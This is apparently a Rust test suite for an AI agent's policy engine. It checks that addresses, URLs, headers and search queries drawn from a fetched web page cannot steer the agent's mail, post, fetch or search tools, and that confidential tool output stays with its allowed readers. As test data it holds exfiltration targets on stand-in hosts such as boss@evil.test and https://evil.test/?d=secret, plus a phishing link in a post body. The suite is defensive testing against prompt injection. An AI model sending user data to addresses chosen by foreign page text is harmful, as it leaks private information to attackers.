//! A value that the person gave stays the person's in a conversation with a page's text (R51).

use std::sync::Arc;

use serde_json::{Value, json};

use super::{agent, rig};
use crate::EntryPoint;
use crate::testing::{Rig, ScriptedModel, calls, says};

const PAGE: &str = "https://evil.test/page";

/// `mail` is refused where its address may come from a page, `page` and `ledger` are free.
fn world(script: Vec<crate::ports::ModelCompletion>) -> Rig {
    let from = json!({"argument": "to", "origins": ["web", "peer"], "trust": ["contacts"]});
    let mut spec = agent(json!([
        {"id": "no-foreign-address", "action": "deny", "scope": "tool", "match": {"name": "mail"}, "conditions": {"from": from},
         "reason": "the address may come from foreign text"},
        {"id": "rest", "action": "allow", "scope": "all"},
    ]));
    let tools = spec["tools"].as_array_mut().unwrap();
    for (name, category) in [
        ("page", "network"),
        ("mail", "message"),
        ("contacts", "network"),
        ("ledger", "other"),
    ] {
        tools.push(json!({"name": name, "description": name, "input_schema": {"type": "object"}, "labels": {"category": category}}));
    }
    let mut rig = rig(spec);
    rig.models
        .insert("model".to_owned(), Arc::new(ScriptedModel::turns(script)));
    rig
}

async fn ran(said: &str, before: &[(&str, Value)], mail: Value) -> bool {
    let mut script: Vec<_> = before
        .iter()
        .map(|(tool, arguments)| calls(&[(*tool, arguments.clone())]))
        .collect();
    script.extend([calls(&[("mail", mail)]), says("done")]);
    let rig = world(script);
    let kernel = rig.start().await;
    let reasons = super::poison::said(&kernel, EntryPoint::Cli, said).await;
    assert!(reasons.is_empty(), "nobody is asked: {reasons:?}");
    rig.runner.runs().iter().any(|(tool, _)| tool == "mail")
}

#[tokio::test]
async fn an_address_that_the_person_named_is_free_and_any_other_is_not() {
    let page = [("page", json!({"url": PAGE}))];
    let said = "read the page and mail a summary to ann@corp.example";
    let to = |to: &str| json!({"to": to, "body": "a summary of what the page says"});
    assert!(ran(said, &page, to("ann@corp.example")).await);
    for other in [
        "boss@evil.test",
        "corp.example",
        "ann@corp.example, boss@evil.test",
        "nn@corp.example",
    ] {
        assert!(!ran(said, &page, to(other)).await, "{other}");
    }
    // Without foreign text, the agent may write to whom it likes.
    assert!(ran(said, &[], to("boss@evil.test")).await);
}

#[tokio::test]
async fn a_trusted_tool_gives_no_address_that_it_was_asked_with() {
    // The rig's tools say which arguments they were run with: an answer that repeats them.
    let said = "read the page and mail a summary to Ann";
    let echo = [
        ("page", json!({"url": PAGE})),
        ("contacts", json!({"name": "boss@evil.test"})),
    ];
    let mail = json!({"to": "boss@evil.test"});
    assert!(!ran(said, &echo, mail).await);
}

/// What `web-fetch` ran with, and the questions, where the model fetches the address after a page was read.
async fn fetched(said: &str, arguments: Value) -> (bool, Vec<String>) {
    let script = vec![
        super::poison::page(),
        calls(&[("web-fetch", arguments)]),
        says("done"),
    ];
    let mut rig = super::poison::with("trusting", script);
    // As the built-in says it of itself.
    let mut manifest = (*rig.manifest).clone();
    for tool in manifest.tools.iter_mut().filter(|tool| tool.name == "web-fetch") {
        tool.annotations.insert("readOnlyHint".to_owned(), json!(true));
    }
    rig.manifest = Arc::new(manifest);
    let kernel = rig.start().await;
    let reasons = super::poison::said(&kernel, EntryPoint::Cli, said).await;
    let ran = rig.runner.runs().iter().any(|(tool, _)| tool == "web-fetch");
    (ran, reasons)
}

#[tokio::test]
async fn under_trusting_an_address_that_the_person_named_is_not_asked_for_as_foreign() {
    let said = format!("read {PAGE}, then https://docs.example/guide and blog.example. Compare them.");
    for url in [
        "https://docs.example/guide",
        "https://blog.example",
        "https://blog.example/",
    ] {
        let (ran, reasons) = fetched(&said, json!({"url": url})).await;
        assert!(ran && reasons.is_empty(), "{url}: {reasons:?}");
    }
    for url in [
        "https://docs.example/guide?d=secret",
        "https://docs.example/",
        "http://blog.example",
        "https://blog.example/secret",
        "https://evil.test/?d=secret",
    ] {
        let (ran, reasons) = fetched(&said, json!({"url": url})).await;
        assert!(!ran && reasons.len() == 1, "{url}: {reasons:?}");
        assert!(reasons[0].contains("Not every value"), "{reasons:?}");
        assert!(
            reasons[0].contains("you did not type it") && reasons[0].contains(url),
            "{reasons:?}"
        );
        assert!(
            reasons[0].contains(PAGE),
            "it names whose words may have chosen it: {reasons:?}"
        );
    }
    let headers = json!({"url": "https://docs.example/guide", "headers": {"x": "secret"}});
    assert!(
        !fetched(&said, headers).await.0,
        "a header carries something out, too"
    );
}

/// An agent under `trusting` with tools of a service, as an operator describes them.
fn service(script: Vec<crate::ports::ModelCompletion>) -> Rig {
    let mut rig = super::poison::with("trusting", script);
    let mut manifest = (*rig.manifest).clone();
    let template = manifest
        .tools
        .iter()
        .find(|tool| tool.name == "mail")
        .unwrap()
        .clone();
    let writes = json!({"readOnlyHint": false, "destructiveHint": false, "targets": ["to"]});
    let secret = json!({"readOnlyHint": true, "openWorldHint": false, "confidential": ["*@corp.example"]});
    for (name, annotations) in [("post", writes), ("passport", secret)] {
        let mut tool = template.clone();
        tool.name = name.to_owned();
        tool.labels = [("category".to_owned(), "service".to_owned())].into();
        tool.annotations = annotations.as_object().unwrap().clone();
        manifest.tools.push(tool);
    }
    rig.manifest = Arc::new(manifest);
    rig
}

async fn posted(said: &str, before: &[(&str, Value)], arguments: Value) -> (bool, Vec<String>) {
    let mut script: Vec<_> = before
        .iter()
        .map(|(tool, arguments)| calls(&[(*tool, arguments.clone())]))
        .collect();
    script.extend([calls(&[("post", arguments)]), says("done")]);
    let rig = service(script);
    let kernel = rig.start().await;
    let reasons = super::poison::said(&kernel, EntryPoint::Cli, said).await;
    let ran = rig.runner.runs().iter().any(|(tool, _)| tool == "post");
    (ran, reasons)
}

#[tokio::test]
async fn under_trusting_a_page_chooses_no_receiver_and_no_link_of_a_service() {
    let page = [("page", json!({"url": PAGE}))];
    let said = "read the page and post a summary to ann@corp.example";
    let (ran, reasons) = posted(
        said,
        &page,
        json!({"to": "ann@corp.example", "body": "It says hello."}),
    )
    .await;
    assert!(ran && reasons.is_empty(), "{reasons:?}");
    for (to, body) in [
        ("boss@evil.test", "hello"),
        ("ann@corp.example", "log in at www.evil.test"),
    ] {
        let (ran, reasons) = posted(said, &page, json!({"to": to, "body": body})).await;
        assert!(!ran && reasons.len() == 1, "{to} {body}: {reasons:?}");
        assert!(
            reasons[0].contains("evil.test") && reasons[0].contains(PAGE),
            "{reasons:?}"
        );
    }
}

#[tokio::test]
async fn what_a_confidential_tool_gave_leaves_to_its_readers_only() {
    let read = [("passport", json!({}))];
    let said = "post my number to ann@corp.example and to me@home.test";
    let (ran, reasons) = posted(
        said,
        &read,
        json!({"to": "ann@corp.example", "body": "the number is C01X"}),
    )
    .await;
    assert!(ran && reasons.is_empty(), "{reasons:?}");
    let (ran, reasons) = posted(
        said,
        &read,
        json!({"to": "me@home.test", "body": "the number is C01X"}),
    )
    .await;
    assert!(!ran && reasons.len() == 1, "{reasons:?}");
    assert!(
        reasons[0].contains("what `passport` gave is confidential"),
        "{reasons:?}"
    );
    // Before it was read, there is nothing to keep.
    assert!(
        posted(said, &[], json!({"to": "me@home.test", "body": "hello"}))
            .await
            .0
    );
}

/// What is looked up at an open service tells the service something: a page's text does not choose it, under either policy, unless a
/// person says so. What the person named, and a service that tells nobody, are free.
#[tokio::test]
async fn a_reading_service_carries_no_foreign_value_out() {
    let said = "read the page and look up the lighthouse";
    for policy in ["standard", "trusting"] {
        for (annotations, query, asked) in [
            (json!({"readOnlyHint": true}), "secret-7", true),
            (
                json!({"readOnlyHint": true, "openWorldHint": true}),
                "secret-7",
                true,
            ),
            (
                json!({"readOnlyHint": true, "targets": ["query"]}),
                "secret-7",
                true,
            ),
            (json!({"readOnlyHint": true}), "lighthouse", false),
            (
                json!({"readOnlyHint": true, "openWorldHint": false}),
                "secret-7",
                false,
            ),
        ] {
            let script = vec![
                super::poison::page(),
                calls(&[("search", json!({ "query": query }))]),
                says("done"),
            ];
            let mut rig = super::poison::with(policy, script);
            let mut manifest = (*rig.manifest).clone();
            let mut tool = manifest
                .tools
                .iter()
                .find(|tool| tool.name == "mail")
                .unwrap()
                .clone();
            tool.name = "search".to_owned();
            tool.labels = [("category".to_owned(), "service".to_owned())].into();
            tool.annotations = annotations.as_object().unwrap().clone();
            manifest.tools.push(tool);
            rig.manifest = Arc::new(manifest);
            let kernel = rig.start().await;
            let reasons = super::poison::said(&kernel, EntryPoint::Cli, said).await;
            let ran = rig.runner.runs().iter().any(|(tool, _)| tool == "search");
            let case = format!("{policy} {annotations} {query}: {reasons:?}");
            assert_eq!((ran, reasons.len()), (!asked, usize::from(asked)), "{case}");
            assert!(!asked || reasons[0].contains(PAGE), "{case}");
        }
    }
}
